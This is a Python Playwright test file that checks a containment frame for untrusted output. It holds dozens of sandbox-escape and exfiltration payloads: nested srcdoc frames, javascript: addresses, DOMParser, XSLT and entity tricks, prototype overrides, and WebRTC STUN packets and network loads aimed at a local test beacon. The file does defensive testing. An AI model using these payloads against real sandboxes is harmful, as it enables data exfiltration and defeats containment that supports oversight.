"""A contained output and WebRTC, which obeys no content-security policy in Chromium.

A frame's scripts must not find it, in any document that they can make. Here the frames stand in a
page of their own: what is asked is the browser's answer to them, whatever the front end.
"""

from __future__ import annotations

import html
import urllib.parse
from collections.abc import Iterator, Mapping
from types import MappingProxyType

import pytest
from playwright.sync_api import Browser
from playwright.sync_api import TimeoutError as PageTimeoutError

from agentbay_kernel.containment import frame
from agentbay_kernel.containment.frame import framed
from tests.browser.beacon import Beacon, listening_beacon
from tests.browser.lab import PATIENCE_MS

pytestmark = pytest.mark.browser

# Sends packets to the beacon if it can, and says that it ran. `OUT` stands for it below.
_OUT = (
    "(()=>{const C=self.RTCPeerConnection;try{top.postMessage((typeof C=='function'?'reached: ':'ran: ')+'NAME','*')}"
    "catch(e){}const c=new C({iceServers:[{urls:'stun:127.0.0.1:PORT'}]});"
    "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))})()"
)
_SCRIPT = "<script>OUT</script>"
# The same where a script makes it: as a text, and as one in an attribute of a text.
_MADE = "'<scr'+`ipt>OUT</scr`+'ipt>'"
_FRAME = "'<ifr'+'ame src'+'doc=\"'+`&lt;script&gt;OUT&lt;/script&gt;`+'\"></ifr'+'ame>'"
_IN_XML = (
    "'<html xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src'+'doc=\"'"
    "+`&lt;script&gt;OUT&lt;/script&gt;`+'\"/></html>'"
)
_NEW = "const f=document.createElement('iframe');"
_SHOW = ";document.body.append(f)"
_STYLESHEET = (
    '\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template'
    ' match="/"><iframe xmlns="http://www.w3.org/1999/xhtml"><xsl:attribute name="{concat(&quot;'
    "src&quot;,&quot;doc&quot;)}\">&lt;script>'+`OUT`.replace(/&/g,'&amp;').replace(/</g,'&lt;')+"
    "'&lt;/script></xsl:attribute></iframe></xsl:template></xsl:stylesheet>'"
)
_ENTITY = (
    "'<!DOCTYPE x [<!ENTITY e \"&#60;iframe xmlns=&apos;http://www.w3.org/1999/xhtml&apos; sr&#99;"
    "doc=&apos;&#38;lt;script&gt;'+`OUT`.replace(/'/g,'&#38;apos;')+'&#38;lt;/script&gt;&apos;/&gt;"
    "\">]><x>&e;</x>'"
)


def _nested(document: str) -> str:
    return f'<iframe srcdoc="{html.escape(document)}"></iframe>'


def _later(code: str) -> str:
    return f"<script>setTimeout(()=>{{{code}}},300)</script>"


WAYS = {
    "itself": _SCRIPT,
    "a document": _nested(_SCRIPT),
    "a document in a document": _nested(_nested(_SCRIPT)),
    "a document, too deep": _nested(_nested(_nested(_nested(_nested(_SCRIPT))))),
    "a document by another spelling": f"<iframe\nSrcDoc\n=\n'{html.escape(_SCRIPT)}'></iframe>",
    "a document without quotes": "<iframe srcdoc=&lt;script&gt;OUT&lt;/script&gt;></iframe>",
    "a document in svg": '<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
    f'srcdoc="{html.escape(_SCRIPT)}"></iframe></foreignObject></svg>',
    "quotes in quotes": f'<iframe title="srcdoc=\'" srcdoc="{html.escape(_SCRIPT)}" alt="\'">'
    "</iframe>",
    "quotes that end": f"<iframe title='srcdoc=' {html.escape(_SCRIPT)} srcdoc=\""
    f'{html.escape(_SCRIPT)}"></iframe>',
    "an animated attribute": "<svg><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
    "id=f></iframe><animate href='#f' attributeName='srcdoc' to='&lt;script&gt;OUT&lt;/script&gt;'"
    "/></foreignObject></svg>",
    "a javascript address": '<iframe src="javascript:OUT"></iframe>',
    "a javascript address with a tab": '<iframe src="java&Tab;script:OUT"></iframe>',
    "a document of a javascript address": f"<iframe src=\"javascript:'{_SCRIPT}'\"></iframe>",
    "a made document": f"<script>{_NEW}f.srcdoc={_MADE}{_SHOW}</script>",
    "a made attribute": f"<script>{_NEW}f.setAttribute('src'+'doc',{_MADE}){_SHOW}</script>",
    "an attribute of a namespace": f"<script>{_NEW}f.setAttributeNS(null,'srcdoc',{_MADE}){_SHOW}"
    "</script>",
    "an attribute's node": "<script>const a=document.createAttribute('srcdoc');"
    f"a.value={_MADE};{_NEW}f.setAttributeNode(a){_SHOW}</script>",
    "an attribute's node, then its value": "<script>const a=document.createAttribute('srcdoc');"
    f"{_NEW}f.setAttributeNode(a);a.value={_MADE}{_SHOW}</script>",
    "an attribute's node by the map": "<script>const a=document.createAttribute('srcdoc');"
    f"a.value={_MADE};{_NEW}f.attributes.setNamedItem(a){_SHOW}</script>",
    "a made javascript address": f"<script>{_NEW}f.src=`javascript:OUT`{_SHOW}</script>",
    "an empty frame's window": f"<script>{_NEW}document.body.append(f);const self=f.contentWindow;"
    "OUT</script>",
    "an empty frame's document": f"<script>{_NEW}document.body.append(f);"
    f"f.contentDocument.write({_MADE})</script>",
    "a frame set": "<script>const s=document.createElement('frameset'),f=document.createElement("
    "'frame');s.append(f);document.documentElement.replaceChild(s,document.body);"
    "const self=f.contentWindow;OUT</script>",
    "an object": "<script>const f=document.createElement('object');f.data='about:blank'"
    f"{_SHOW};const self=f.contentWindow;OUT</script>",
    "a blob": f"<script>{_NEW}f.src=URL.createObjectURL(new Blob([{_MADE}],{{type:'text/html'}}))"
    f"{_SHOW}</script>",
    "innerHTML": f"<script>document.body.innerHTML={_FRAME}</script>",
    "insertAdjacentHTML": f"<script>document.body.insertAdjacentHTML('beforeend',{_FRAME})</script>",
    "setHTMLUnsafe": f"<script>document.body.setHTMLUnsafe({_FRAME})</script>",
    "parseHTMLUnsafe": f"<script>document.body.append(document.adoptNode(Document.parseHTMLUnsafe("
    f"{_FRAME}).body.firstChild))</script>",
    "DOMParser": "<script>document.body.append(document.adoptNode(new DOMParser().parseFromString("
    f"{_FRAME},'text/html').body.firstChild))</script>",
    "DOMParser of XML": "<script>document.body.append(document.adoptNode(new DOMParser()."
    f"parseFromString({_IN_XML},'application/xhtml+xml').documentElement.firstChild))</script>",
    "DOMParser of XML with an entity": "<script>document.body.append(document.adoptNode(new "
    f"DOMParser().parseFromString({_ENTITY},'application/xhtml+xml').documentElement.firstChild))"
    "</script>",
    "XMLHttpRequest": "<script>const r=new XMLHttpRequest();r.open('GET',URL.createObjectURL("
    f"new Blob([{_FRAME}],{{type:'text/html'}})));r.responseType='document';r.onload=()=>"
    "document.body.append(document.adoptNode(r.response.body.firstChild));r.send()</script>",
    "XMLHttpRequest of XML": "<script>const r=new XMLHttpRequest();r.open('GET',URL."
    f"createObjectURL(new Blob([{_IN_XML}],{{type:'application/xhtml+xml'}})));r.onload=()=>"
    "document.body.append(document.adoptNode(r.responseXML.documentElement.firstChild));r.send()"
    "</script>",
    "XSLT": "<script>const x=new XSLTProcessor(),p=t=>new DOMParser().parseFromString(t,'text/xml');"
    f"x.importStylesheet(p({_STYLESHEET}));document.body.append(x.transformToFragment(p('<a/>'),"
    "document))</script>",
    "a fragment": "<script>document.body.append(document.createRange().createContextualFragment("
    f"{_FRAME}))</script>",
    "execCommand": f"<div contenteditable id=d>x</div><script>d.focus();document.execCommand("
    f"'insertHTML',false,{_FRAME})</script>",
    "document.write": f"<script>document.write({_FRAME})</script>",
    "document.open": f"<script>document.open();document.write({_MADE});document.close()</script>",
    "document.open, later": _later(f"document.open();document.write({_MADE});document.close()"),
    "own javascript address": _later(f"location='javascript:'+JSON.stringify({_MADE})"),
    "a link with a javascript address": "<a id=a></a>"
    + _later(f"a.href='javascript:'+JSON.stringify({_MADE});a.click()"),
    "own blob": _later(f"location=URL.createObjectURL(new Blob([{_MADE}],{{type:'text/html'}}))"),
    "own data": _later(f"location='data:text/html,'+encodeURIComponent({_MADE})"),
    "itself, loaded again": "<script>if(!window.name){window.name='x';setTimeout(()=>location."
    "reload(),300)}else{OUT}</script>",
    "a policy of its own": "<script>const p=trustedTypes.createPolicy('mine',{createHTML:s=>s});"
    f"{_NEW}f.srcdoc=p.createHTML({_MADE}){_SHOW}</script>",
    "the default policy again": "<script>const p=trustedTypes.createPolicy('default',{createHTML:"
    f"s=>s}});{_NEW}f.srcdoc=p.createHTML({_MADE}){_SHOW}</script>",
}


# Ways by which packets left a frame whose guard judged texts, and more of their kinds. Without the
# frame each sends.
MORE_WAYS = {
    "document.write in two calls": "<script>document.write('<ifr'+'ame src');document.write("
    "'doc=\"'+`&lt;script&gt;OUT&lt;/script&gt;`+'\"></ifr'+'ame>')</script>",
    "document.write of half a tag": "<script>document.write('<ifr'+'ame src')</script>"
    'doc="&lt;script&gt;OUT&lt;/script&gt;"></iframe>',
    "document.write, sign by sign": f"<script>for(const c of {_FRAME})document.write(c)</script>",
    "document.writeln": f"<script>document.writeln({_FRAME})</script>",
    "written in a document without a window": "<script>const d=document.implementation."
    "createHTMLDocument('');d.write('<ifr'+'ame src');d.write('doc=\"'+`&lt;script&gt;OUT"
    "&lt;/script&gt;`+'\"></ifr'+'ame>');document.body.append(d.querySelector('iframe'))</script>",
    "written later, in two calls": _later(
        "document.open();document.write('<ifr'+'ame src');document.write('doc=\"'+`&lt;script&gt;OUT"
        "&lt;/script&gt;`+'\"></ifr'+'ame>');document.close()"
    ),
    "RegExp replaced": "<script>RegExp.prototype.test=()=>false;RegExp.prototype.exec=()=>null;"
    f"{_NEW}f.srcdoc={_MADE}{_SHOW}</script>",
    "String replaced": "<script>String.prototype.replace=function(){return String(this)};"
    f"document.body.insertAdjacentHTML('beforeend',{_FRAME})</script>",
    "Symbol.replace replaced": "<script>RegExp.prototype[Symbol.replace]=text=>text;"
    f"document.body.insertAdjacentHTML('beforeend',{_FRAME})</script>",
    "call, apply and bind replaced": "<script>for(const n of ['call','apply','bind'])Function."
    f"prototype[n]=()=>'';{_NEW}f.srcdoc={_MADE}{_SHOW}</script>",
    "Object's functions replaced": "<script>Object.getOwnPropertyDescriptor=Object.defineProperty="
    f"Object.getOwnPropertyNames=()=>[];{_NEW}f.srcdoc={_MADE}{_SHOW}</script>",
    "arrays and sets replaced": "<script>Array.prototype[Symbol.iterator]=Array.prototype.push="
    "Array.prototype.shift=Set.prototype.has=WeakSet.prototype.has=()=>true;"
    f"{_NEW}f.srcdoc={_MADE}{_SHOW}</script>",
    "a getter of the document replaced": "<script>Object.defineProperty(Document.prototype,"
    f"'currentScript',{{get(){{return null}}}});{_NEW}f.srcdoc={_MADE}{_SHOW}</script>",
    "Reflect.set": f"<script>{_NEW}Reflect.set(f,'srcdoc',{_MADE}){_SHOW}</script>",
    "outerHTML": "<div id=d></div><script>d.outerHTML=" + _FRAME + "</script>",
    "a template": f"<script>const t=document.createElement('template');t.innerHTML={_FRAME};"
    "document.body.append(t.content.cloneNode(true))</script>",
    "a shadow root": "<script>const h=document.createElement('div');document.body.append(h);"
    f"h.attachShadow({{mode:'closed'}}).innerHTML={_FRAME}</script>",
    "a declared shadow root": "<script>const h=document.createElement('div');document.body."
    f"append(h);h.setHTMLUnsafe('<p><template shadowrootmode=closed>'+{_FRAME}+'</template></p>')"
    "</script>",
    "an imported node": "<script>document.body.append(document.importNode(new DOMParser()."
    f"parseFromString({_FRAME},'text/html').body.firstChild,true))</script>",
    "a clone": f"<script>{_NEW}f.srcdoc={_MADE};document.body.append(f.cloneNode(true))</script>",
    "an element of its own": "<script>customElements.define('x-f',class extends HTMLElement{"
    f"connectedCallback(){{this.innerHTML={_FRAME}}}}});document.body.append(document."
    "createElement('x-f'))</script>",
    "HTML in SVG": "<script>const v=document.createElementNS('http://www.w3.org/2000/svg','svg');"
    f"v.innerHTML='<foreignObject>'+{_FRAME}+'</foreignObject>';document.body.append(v)</script>",
    "a document's handler": f'<script>{_NEW}f.srcdoc="<img src=x onerror=\'"+`OUT`.replace('
    f"/'/g,'&apos;')+\"'>\"{_SHOW}</script>",
    "a document's module": f"<script>{_NEW}f.srcdoc='<script type=module>'+`OUT`+'</scr'+'ipt>'"
    f"{_SHOW}</script>",
    "a document's script of a data address": f"<script>{_NEW}f.srcdoc='<script src=\"data:text/"
    f"javascript,'+encodeURIComponent(`OUT`)+'\"></scr'+'ipt>'{_SHOW}</script>",
    "a document in a made document": f"<script>{_NEW}f.srcdoc='<ifr'+'ame srcdoc=\"&lt;script&gt;'"
    f"+`OUT`+'&lt;/script&gt;\"></ifr'+'ame>'{_SHOW}</script>",
    "a text as code": "<script>(0,eval)(`OUT`);new Function(`OUT`)();setTimeout(`OUT`)</script>",
    "a handler": '<img src=x onerror="OUT">',
}
# Whatever loads an address; `ADDRESS` stands for it.
NETWORK_WAYS = {
    "fetch": "<script>fetch('ADDRESS',{mode:'no-cors'})</script>",
    "fetch, kept alive": "<script>fetch('ADDRESS',{mode:'no-cors',keepalive:true})</script>",
    "XMLHttpRequest to it": "<script>const r=new XMLHttpRequest();r.open('GET','ADDRESS');r.send()</script>",
    "EventSource": "<script>new EventSource('ADDRESS')</script>",
    "WebSocket": "<script>new WebSocket('ADDRESS'.replace('http','ws'))</script>",
    "sendBeacon": "<script>navigator.sendBeacon('ADDRESS','x')</script>",
    "import": "<script type=module>import('ADDRESS')</script>",
    "a script": "<script src='ADDRESS'></script>",
    "a made script": "<script>const s=document.createElement('script');s.src='ADDRESS';document.body."
    "append(s)</script>",
    "an image": "<img src='ADDRESS'>",
    "an image's sets": "<picture><source srcset='ADDRESS'><img></picture>",
    "Image": "<script>new Image().src='ADDRESS'</script>",
    "an image of a form": "<input type=image src='ADDRESS'>",
    "a video's poster": "<video poster='ADDRESS'></video>",
    "a video": "<video src='ADDRESS' preload=auto></video>",
    "Audio": "<script>new Audio('ADDRESS').load()</script>",
    "a stylesheet": "<link rel=stylesheet href='ADDRESS'>",
    "an import of a stylesheet": "<style>@import 'ADDRESS';</style>",
    "a stylesheet's background": "<style>p{background:url(ADDRESS)}</style><p>x",
    "a stylesheet's cursor": "<p style='cursor:url(ADDRESS),auto'>x",
    "a font": "<style>@font-face{font-family:f;src:url(ADDRESS)}p{font-family:f}</style><p>x",
    "FontFace": "<script>new FontFace('f','url(ADDRESS)').load().catch(()=>{})</script>",
    "a preloaded image": "<link rel=preload as=image href='ADDRESS'>",
    "a preloaded module": "<link rel=modulepreload href='ADDRESS'>",
    "a frame's address": "<iframe src='ADDRESS'></iframe>",
    "an object's address": "<object data='ADDRESS'></object>",
    "an embedded address": "<embed src='ADDRESS'>",
    "SVG's image": "<svg><image href='ADDRESS'/></svg>",
    "SVG's filter": "<svg><filter id=f><feImage href='ADDRESS'/></filter><rect filter='url(#f)' "
    "width=9 height=9 /></svg>",
    "own address": _later("location='ADDRESS'"),
    "a refresh": "<meta http-equiv=refresh content='0;url=ADDRESS'>",
    "a link": "<a href='ADDRESS' id=a>x</a>" + _later("a.click()"),
    "a made frame's address": f"<script>{_NEW}f.src='ADDRESS'{_SHOW}</script>",
    "a document's image": f"<script>{_NEW}f.srcdoc='<img src=\"ADDRESS\">'{_SHOW}</script>",
    "a worker's fetch": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('ADDRESS',{mode:"
    "'no-cors'})`])))</script>",
    "a worker's scripts": "<script>new Worker(URL.createObjectURL(new Blob([`importScripts('ADDRESS')`"
    "])))</script>",
    "a worker's XMLHttpRequest": "<script>new Worker(URL.createObjectURL(new Blob([`const r=new "
    "XMLHttpRequest();r.open('GET','ADDRESS');r.send()`])))</script>",
    "a worker's WebSocket": "<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket("
    "'ADDRESS'.replace('http','ws'))`])))</script>",
    "a worker of a data address": "<script>new Worker('data:text/javascript,'+encodeURIComponent("
    "`fetch('ADDRESS',{mode:'no-cors'})`))</script>",
}


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    """Where packets arrive."""
    with listening_beacon() as listening:
        yield listening


_PADDING = f"<!-- {'x' * 60_000} -->"


# A page with more frames is slow to come up.
_AT_ONCE = 16


def _said(
    browser: Browser, frames: list[str], awaited: Mapping[int, str] = MappingProxyType({})
) -> list[str]:
    """What the frames said to their page until the last of each page was up for two seconds.

    The pages wait side by side.

    Arguments:
        awaited: what is waited for beyond that, by the number of the frame that says it.
    """
    said: list[str] = []
    last = framed("<script>setTimeout(()=>top.postMessage('end','*'),2000)</script>")
    pages = {at: browser.new_page() for at in range(0, len(frames), _AT_ONCE)}
    for at, page in pages.items():
        # Beside another browser, many frames take longer than the default.
        page.set_default_timeout(PATIENCE_MS)
        page.set_content(
            "<script>said=[];addEventListener('message',event=>said.push(event.data))</script>"
            + "".join(frames[at : at + _AT_ONCE])
            + last,
            wait_until="commit",
        )
    for at, page in pages.items():
        page.wait_for_function("said.includes('end')")
        for number, message in awaited.items():
            if at <= number < at + _AT_ONCE:
                try:
                    page.wait_for_function("message => said.includes(message)", arg=message)
                except PageTimeoutError as error:
                    told = page.evaluate("said")
                    raise AssertionError(f"{message!r} is not among {told}") from error
    for page in pages.values():
        said += [str(it) for it in page.evaluate("said") if it != "end"]
        page.close()
    return said


def _code(way: str, beacon: Beacon) -> str:
    out = _OUT.replace("NAME", way.replace("'", " ")).replace("PORT", str(beacon.port))
    return "<p>x</p>" + {**WAYS, **MORE_WAYS}[way].replace("OUT", out)


def _loading(way: str, beacon: Beacon) -> str:
    address = f"{beacon.address}/{list(NETWORK_WAYS).index(way)}/"
    return "<p>x</p>" + NETWORK_WAYS[way].replace("ADDRESS", address)


def _bare(source: str) -> str:
    return f'<iframe sandbox="allow-scripts" srcdoc="{html.escape(source)}"></iframe>'


# `make test` tries every way in a frame as it is, and some in one that is packed.
_PADDED = pytest.mark.parametrize(
    ("padding", "step"),
    [
        ("", 1),
        (_PADDING, 10),
        pytest.param(_PADDING, 1, marks=pytest.mark.slow),
    ],
    ids=["plain", "packed", "all packed"],
)


@_PADDED
def test_no_document_of_a_frame_has_webrtc(
    browser: Browser, beacon: Beacon, padding: str, step: int
) -> None:
    ran = ("itself", "a document in a document", "document.open", "a text as code", "a handler")
    ways = [way for at, way in enumerate([*WAYS, *MORE_WAYS]) if at % step == 0 or way in ran]
    # Scripts do run there, in documents of documents too.
    awaited = {ways.index(way): f"ran: {way}" for way in ran}
    said = _said(browser, [framed(_code(way, beacon) + padding) for way in ways], awaited)
    assert [it for it in said if it.startswith("reached")] == []
    assert beacon.datagrams == 0
    assert set(awaited.values()) <= set(said)


def test_a_guard_among_hostile_elements_guards(browser: Browser, beacon: Beacon) -> None:
    out = _OUT.replace("NAME", "x").replace("PORT", str(beacon.port))
    guard, run = f"<script>{frame._GUARD}</script>", f"<script>{frame._RUN}</script>"
    hostile = (
        "<form name=currentScript></form><img name=readyState><a id=Object></a>"
        "<a id=RTCPeerConnection></a><iframe name=Function></iframe>"
    )
    documents = [
        f"{before}{first}{between}<script>{out}</script>{run}"
        for before in ("", hostile)
        for first in ("", guard)
        for between in ("", "<a id=agentbayRun></a><object id=agentbayRun></object>")
    ]
    made = "".join(
        "<script>{const f=document.createElement('iframe');f.srcdoc=decodeURIComponent('"
        + urllib.parse.quote(document, safe="")
        + "');document.body.append(f)}</script>"
        for document in documents
    )
    said = _said(browser, [framed(f"<p>x</p>{made}")])
    assert set(said) == {"ran: x"}
    assert beacon.datagrams == 0


@pytest.mark.slow
def test_without_the_frame_packets_arrive(browser: Browser, beacon: Beacon) -> None:
    ways = [way for way in WAYS if way.startswith(("a ", "an ", "DOM", "XML", "inner"))]
    said = _said(browser, [_bare(_code(way, beacon)) for way in [*ways, *MORE_WAYS]])
    assert beacon.datagrams > 0
    reached = {it.removeprefix("reached: ") for it in said if it.startswith("reached")}
    assert len(reached - set(MORE_WAYS)) > len(ways) / 2
    assert {way.replace("'", " ") for way in MORE_WAYS} <= reached


@_PADDED
def test_a_frame_loads_nothing(browser: Browser, beacon: Beacon, padding: str, step: int) -> None:
    ways = list(NETWORK_WAYS)[::step]
    _said(browser, [framed(_loading(way, beacon) + padding) for way in ways])
    assert beacon.requests == []
    assert beacon.datagrams == 0


@pytest.mark.parametrize("step", [3, pytest.param(1, marks=pytest.mark.slow)], ids=["some", "all"])
def test_without_the_frame_each_loads(browser: Browser, beacon: Beacon, step: int) -> None:
    ways = list(NETWORK_WAYS)[::step]
    _said(browser, [_bare(_loading(way, beacon)) for way in ways])
    asked = {int(line.split("/")[1]) for line in beacon.requests if line.split("/")[1].isdigit()}
    silent = [way for at, way in enumerate(NETWORK_WAYS) if way in ways and at not in asked]
    assert silent == []


SCRIPTS = {
    "of HTML": "<script>SAY</script>",
    "of SVG": "<svg><script>SAY</script></svg>",
    "of SVG with an address": "<svg><script href='data:text/javascript,SAY'></script></svg>",
    "of SVG with an old address": "<svg><script xlink:href='data:text/javascript,SAY'>"
    "</script></svg>",
    "a module of SVG": "<svg><script type=module>SAY</script></svg>",
    "in foreign content": "<svg><foreignObject><script>SAY</script></foreignObject></svg>",
    "made by a script": "<script>let s=document.createElement('script');s.text=`SAY`;"
    "document.body.append(s)</script>",
    "made by a script, of SVG": "<script>let s=document.createElementNS("
    "'http://www.w3.org/2000/svg','script');s.textContent=`SAY`;"
    "document.body.append(document.createElementNS('http://www.w3.org/2000/svg','svg'));"
    "document.body.lastChild.append(s)</script>",
}
# How many scripts were blocked so far, a second later: each is reported once.
_BLOCKED = (
    "<script>let n=0;addEventListener('securitypolicyviolation',()=>n++,true);"
    "setTimeout(()=>top.postMessage(n>9?'reports without end: NAME':'','*'),1000)</script>"
)


def test_a_script_runs_once_and_then_there_is_quiet(browser: Browser) -> None:
    frames = []
    for name, script in SCRIPTS.items():
        say = f'top.postMessage(decodeURIComponent("{urllib.parse.quote(name)}"),"*")'
        frames.append(
            framed("<p>x</p>" + _BLOCKED.replace("NAME", name) + script.replace("SAY", say))
        )
    assert sorted(filter(None, _said(browser, frames))) == sorted(SCRIPTS)
